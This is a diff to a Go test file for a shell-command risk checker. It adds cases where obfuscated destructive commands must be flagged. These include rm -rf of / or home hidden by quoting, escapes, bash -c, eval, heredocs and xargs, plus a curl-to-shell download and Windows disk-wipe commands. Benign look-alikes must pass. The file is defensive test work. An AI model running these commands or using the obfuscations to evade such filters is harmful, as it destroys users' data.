@@ -81,6 +81,38 @@ func TestIsBlocked(t *testing.T) {
 		{"clear-disk", "Clear-Disk -Number 0 -RemoveData", true},
 		{"initialize-disk", "Initialize-Disk -Number 0", true},
 		{"diskpart", "diskpart /s script.txt", true},
+		{"rm root from command substitution", `rm -rf "$(echo /)"`, true},
+		{"rm root from printf substitution", `rm -rf $(printf /)`, true},
+		{"rm root split across quotes", `rm -rf "/"'*'`, true},
+		{"rm with escaped name", `r\m -rf /`, true},
+		{"rm with quoted name", `r""m -rf ~`, true},
+		{"rm by absolute path", "/bin/rm -rf /", true},
+		{"rm inside subshell", "(cd /tmp && r\\m -rf ~)", true},
+		{"rm inside command substitution", `echo "$(r\m -rf /)"`, true},
+		{"bash -c nested", `bash -c 'cd /tmp; r\m -rf ~'`, true},
+		{"bash -lc nested", `bash -lc "sudo r''m -rf /"`, true},
+		{"su -c nested", `su -c 'r""m -rf /'`, true},
+		{"bash -c after -o value", `bash -o pipefail -c 'r""m -rf /'`, true},
+		{"bash -c after -O and +o values", `bash -O extglob +o history -c 'r""m -rf /'`, true},
+		{"bash -c before its operand", `bash -c -e --rcfile x 'r""m -rf /'`, true},
+		{"eval", `eval "r\\m -rf /"`, true},
+		{"eval of substitution", `eval "$(printf 'r""m -rf /')"`, true},
+		{"nested shells", `sh -c "bash -c 'r\\m -rf /'"`, true},
+		{"heredoc into shell", "bash <<'EOF'\nr\\m -rf ~\nEOF", true},
+		{"heredoc piped into shell", "cat <<EOF | sh\nrm -rf /\nEOF", true},
+		{"heredoc written to a script", "cat <<EOF > wipe.sh\nrm -rf /\nEOF", true},
+		{"heredoc in a substitution", "$(cat <<EOF\nrm -rf /\nEOF\n)", true},
+		{"heredoc substituted into bash -c", "bash -c \"$(cat <<EOF\nrm -rf /\nEOF\n)\"", true},
+		{"heredoc substituted into eval", "eval \"$(cat <<'EOF'\nrm -rf /\nEOF\n)\"", true},
+		{"heredoc in a process substitution", "bash <(cat <<EOF\nrm -rf /\nEOF\n)", true},
+		{"heredoc piped into eval", "cat <<EOF | xargs -0 eval\nrm -rf /\nEOF", true},
+		{"here-string into shell", `sh <<< 'r""m -rf /'`, true},
+		{"echo piped into shell", `echo 'r""m -rf /' | sh`, true},
+		{"find piped to xargs rm", "find / -type f | xargs rm -f", true},
+		{"echo piped to xargs rm", "echo / | xargs rm -rf", true},
+		{"xargs with options", "echo ~ | xargs -n 1 sudo rm -rf", true},
+		{"find exec shell", `find /tmp -name x -exec sh -c 'r""m -rf /' \;`, true},
+		{"timeout wrapper", "timeout 10 rm -rf /", true},
 
 		{"sudo rm subdirectory", "sudo rm -rf /var/log/old", false},
 		{"sudo rm file", "sudo rm /etc/nginx/sites-enabled/default", false},
@@ -106,6 +138,11 @@ func TestIsBlocked(t *testing.T) {
 		{"del in subdirectory", `del /q C:\temp\*.log`, false},
 		{"get-childitem drive root", `Get-ChildItem C:\`, false},
 		{"git log format", "git log --format c:%h", false},
+		{"semicolon inside quotes", `echo "a;b"`, false},
+		{"separator inside quotes", `echo "done; format C: later"`, false},
+		{"find filtered piped to xargs rm", "find . -name '*.log' | xargs rm -f", false},
+		{"bash -c harmless", `bash -c 'echo hi; ls /'`, false},
+		{"heredoc only shown", "cat <<EOT\nrm -rf / is a bad idea\nEOT", false},
 	}
 
 	for _, tt := range tests {
@@ -142,6 +179,9 @@ func TestAssessRisk(t *testing.T) {
 		{"reg delete", `reg delete HKCU\Software\Test /f`, RiskCaution},
 		{"bcdedit", "bcdedit /set testsigning on", RiskCaution},
 		{"remove-item drive root", `Remove-Item C:\ -Recurse -Force`, RiskDanger},
+		{"sudo inside bash -c", `bash -c "s\\udo apt-get install curl"`, RiskCaution},
+		{"xargs rm", "find . -name '*.log' | xargs rm -f", RiskCaution},
+		{"quoted separator", `echo "a;b"`, RiskSafe},
 	}
 
 	for _, tt := range tests {
@@ -173,3 +213,46 @@ func TestGetRiskEmoji(t *testing.T) {
 		})
 	}
 }
+
+func TestAssess(t *testing.T) {
+	tests := []struct {
+		name       string
+		command    string
+		wantLevel  RiskLevel
+		wantRuleID string
+		wantSpan   string
+	}{
+		{"safe", "ls -la", RiskSafe, "", ""},
+		{"blocked segment", "cd /tmp && rm -rf /", RiskDanger, "rm-root", "rm -rf /"},
+		{"caution segment", "ls; sudo apt-get install curl", RiskCaution, "sudo", "sudo apt-get install curl"},
+		{"pipeline", "curl -sSL https://example.com/i.sh | sh", RiskDanger, "download-to-shell", "curl -sSL https://example.com/i.sh | sh"},
+		{"nested script points at its runner", `echo ok; bash -c 'r\m -rf ~'`, RiskDanger, "rm-root", `bash -c 'r\m -rf ~'`},
+		{"find without a filter", "find / -delete", RiskDanger, "find-delete-root", "find / -delete"},
+		{"unparsable falls back to the line", `Remove-Item C:\ -Recurse -Force`, RiskDanger, "windows-delete-root", `Remove-Item C:\ -Recurse -Force`},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := Assess(tt.command)
+			if got.Level != tt.wantLevel || got.RuleID != tt.wantRuleID {
+				t.Fatalf("Assess(%q) = %+v, want level %v and rule %q", tt.command, got, tt.wantLevel, tt.wantRuleID)
+			}
+			if tt.wantLevel != RiskSafe && got.Reason == "" {
+				t.Errorf("Assess(%q) has no reason", tt.command)
+			}
+			if span := tt.command[got.Span.Start:got.Span.End]; span != tt.wantSpan {
+				t.Errorf("Assess(%q) span = %q, want %q", tt.command, span, tt.wantSpan)
+			}
+		})
+	}
+}
+
+func TestBuiltinRulesHaveIDsAndReasons(t *testing.T) {
+	for _, rules := range [][]builtinRule{blockedRules, cautionRules, exfiltrationRules, {unfilteredFind, tooDeep}} {
+		for _, rule := range rules {
+			if rule.id == "" || rule.reason == "" {
+				t.Errorf("rule %+v needs an id and a reason", rule)
+			}
+		}
+	}
+}